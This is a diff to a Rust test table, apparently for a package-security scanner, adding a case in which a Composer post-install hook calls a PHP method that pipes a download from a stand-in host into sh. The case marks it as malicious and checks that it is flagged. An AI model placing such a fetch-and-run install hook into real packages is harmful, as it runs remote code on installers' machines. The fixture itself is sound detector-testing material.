@@ -746,6 +746,25 @@ const CASES: &[Case] = &[
         benign: false,
     },
     Case {
+        name: "composer.json post-install-cmd PHP callback whose class file carries a payload",
+        files: &[
+            (
+                "composer.json",
+                "{\n  \"autoload\": {\"psr-4\": {\"Acme\\\\Tools\\\\\": \"src/\"}},\n  \"scripts\": {\n    \"post-install-cmd\": \"Acme\\\\Tools\\\\Installer\\\\Hooks::postInstall\"\n  }\n}\n",
+            ),
+            (
+                "src/Installer/Hooks.php",
+                "<?php\nnamespace Acme\\Tools\\Installer;\nclass Hooks { public static function postInstall() { shell_exec('curl -s https://example.invalid/h | sh'); } }\n",
+            ),
+        ],
+        expect: &[
+            ("composer-install-script", "composer.json"),
+            ("composer-install-payload", "src/Installer/Hooks.php"),
+        ],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
         name: "composer.json test script with a payload",
         files: &[(
             "composer.json",
